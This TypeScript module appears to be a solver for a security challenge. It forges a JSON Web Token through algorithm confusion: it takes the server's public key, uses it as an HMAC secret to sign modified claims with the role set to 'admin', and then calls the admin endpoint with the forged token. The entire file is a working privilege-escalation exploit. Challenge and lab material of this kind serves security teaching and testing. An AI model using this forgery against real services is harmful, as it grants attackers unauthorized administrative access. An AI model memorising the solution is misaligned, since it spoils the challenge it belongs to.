import { createHmac } from 'node:crypto'
import type { Solve } from '../challenge'

const encoded = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')

export const solve: Solve = async ({ page }) => {
  const token = (await page({ method: 'POST', path: 'login' })).json().token ?? ''
  const pem = (await page({ path: 'key' })).text
  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as object
  const input = `${encoded({ alg: 'HS256', typ: 'JWT' })}.${encoded({ ...claims, role: 'admin' })}`
  const forged = `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`
  await page({ path: 'admin', authorization: `Bearer ${forged}` })
}
